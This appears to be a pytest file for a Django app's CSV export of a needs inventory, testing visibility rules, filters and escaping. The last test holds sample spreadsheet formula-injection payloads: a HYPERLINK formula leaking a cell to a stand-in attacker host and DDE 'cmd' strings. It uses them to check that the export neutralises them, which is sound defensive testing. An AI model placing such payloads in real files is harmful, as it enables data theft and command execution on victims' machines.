"""The needs inventory as CSV holds exactly what the reader may see in the list."""

import csv
import io

import pytest
from django.test import Client

from samskapa.accounts.models import User
from samskapa.needs.models import Need
from samskapa.needs.tests.factories import CampaignFactory, NeedFactory
from samskapa.projects.models import Project

pytestmark = pytest.mark.django_db

EXPORT = "/sv/behov/behov.csv"


def exported_titles(client: Client, query: str = "") -> list[str]:
    response = client.get(EXPORT + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:2] == ["Behovsnummer", "Titel"]
    return [row[1] for row in rows[1:]]


def test_anonymous_gets_only_public_needs(client: Client, needs: dict[str, Need]) -> None:
    assert exported_titles(client) == ["Offentligt behov"]


def test_author_also_gets_their_own_private_and_members_only_needs(
    client: Client, needs: dict[str, Need], author: User
) -> None:
    client.force_login(author)

    titles = exported_titles(client)

    # Their own needs in any visibility, but not the one a moderator hid.
    assert set(titles) == {"Offentligt behov", "Medlemsbehov", "Privat behov"}


def test_member_of_another_municipality_gets_only_public(
    client: Client, needs: dict[str, Need], other_member: User
) -> None:
    client.force_login(other_member)

    assert exported_titles(client) == ["Offentligt behov"]


def test_leader_gets_the_whole_inventory_of_the_project(
    client: Client, needs: dict[str, Need], gavle_leader: User
) -> None:
    client.force_login(gavle_leader)

    titles = exported_titles(client, "?project=naringen")

    assert set(titles) == {"Offentligt behov", "Medlemsbehov", "Privat behov", "Dolt behov"}


def test_export_follows_the_list_filters(client: Client, needs: dict[str, Need]) -> None:
    assert exported_titles(client, "?project=finns-inte") == []


def test_list_links_to_the_export_with_its_filters(client: Client, needs: dict[str, Need]) -> None:
    page = client.get("/sv/behov/?project=naringen").content.decode()

    assert 'href="/sv/behov/behov.csv?project=naringen"' in page


def test_text_that_a_spreadsheet_would_run_is_exported_as_text(
    client: Client, naringen: Project, author: User
) -> None:
    campaign = CampaignFactory(project=naringen, title="@SUM(1+9)*cmd|' /c calc'!A0")
    NeedFactory(
        project=naringen,
        author=author,
        campaign=campaign,
        title='=HYPERLINK("https://angripare.example/?q="&B2;"Läs mer")',
        description="+cmd|' /c calc'!A1",
        area="-5",
    )

    response = client.get(EXPORT)
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))

    header, row = rows
    cells = dict(zip(header, row, strict=True))
    assert cells["Titel"] == '\'=HYPERLINK("https://angripare.example/?q="&B2;"Läs mer")'
    assert cells["Beskrivning"] == "'+cmd|' /c calc'!A1"
    assert cells["Inventeringskampanj"] == "'@SUM(1+9)*cmd|' /c calc'!A0"
    assert cells["Plats"] == "'-5"
    # Numbers are numbers, not text: the count of supporters is written as it is.
    assert cells["Antal som stöder"] == "0"
